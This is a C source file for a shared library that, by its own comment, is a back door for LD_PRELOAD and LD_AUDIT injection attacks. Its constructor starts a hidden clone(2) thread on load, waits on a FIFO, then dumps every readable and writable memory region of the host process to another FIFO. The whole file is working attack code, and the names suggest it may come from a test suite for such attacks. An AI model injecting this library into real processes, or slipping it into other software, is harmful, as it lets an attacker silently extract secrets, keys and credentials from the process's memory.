/* The library of the ld-preload and ld-audit attacks: a back door. It waits in the process that
 * loaded it until the FIFO PH_ATTACK_IN is opened, then writes all memory that is both readable and
 * writable to the FIFO PH_ATTACK_OUT. The paths are in environment variables or macros of these
 * names.
 *
 * It runs in a bare clone(2) thread, not a pthread, because an LD_AUDIT library has its own copy of
 * libc. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static char stack[1 << 16] __attribute__((aligned(64)));
static char maps[1 << 20];
static const char *request, *answer;

static void write_region(int out, char *at, char *end)
{
    while (at < end) {
        /* The kernel returns EFAULT for unreadable memory, so this cannot crash. */
        ssize_t done = write(out, at, (size_t)(end - at));

        if (done <= 0)
            return;
        at += done;
    }
}

static int serve(void *unused)
{
    int in = open(request, O_RDONLY | O_CLOEXEC);
    int out = open(answer, O_WRONLY | O_CLOEXEC);
    int file = open("/proc/self/maps", O_RDONLY | O_CLOEXEC);
    size_t length = 0;
    ssize_t got;

    (void)unused;
    while (file >= 0 && length + 1 < sizeof maps &&
           (got = read(file, maps + length, sizeof maps - 1 - length)) > 0)
        length += (size_t)got;
    for (char *line = maps; in >= 0 && out >= 0 && *line;) {
        char *end = strchr(line, '\n');
        char *rest;
        uintptr_t from = strtoul(line, &rest, 16);
        uintptr_t to = strtoul(rest + 1, &rest, 16);

        if (rest[1] == 'r' && rest[2] == 'w')
            write_region(out, (char *)from, (char *)to);
        if (!end)
            break;
        line = end + 1;
    }
    close(out);
    close(in);
    close(file);
    return 0;
}

__attribute__((constructor)) static void start(void)
{
#ifdef PH_ATTACK_IN
    request = PH_ATTACK_IN;
    answer = PH_ATTACK_OUT;
#else
    request = getenv("PH_ATTACK_IN");
    answer = getenv("PH_ATTACK_OUT");
#endif
    if (request && answer)
        clone(serve, stack + sizeof stack,
              CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD | CLONE_SYSVSEM,
              NULL);
}

/* This function makes the library an auditor: rtld-audit(7). */
unsigned la_version(unsigned version);
unsigned la_version(unsigned version)
{
    return version;
}
